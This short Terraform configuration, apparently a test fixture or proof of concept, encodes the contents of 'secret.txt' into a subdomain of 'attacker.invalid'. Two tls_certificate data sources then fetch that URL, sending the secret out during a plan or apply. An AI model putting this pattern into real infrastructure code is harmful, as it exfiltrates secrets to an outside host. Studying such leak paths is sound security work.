resource "terraform_data" "host" {
  input = "https://${filebase64("secret.txt")}.attacker.invalid"
}

resource "aws_ssm_parameter" "host" {
  name  = "host"
  type  = "String"
  value = "https://${filebase64("secret.txt")}.attacker.invalid"
}

data "tls_certificate" "one" {
  url = terraform_data.host.output
}

data "tls_certificate" "two" {
  url = aws_ssm_parameter.host.value
}
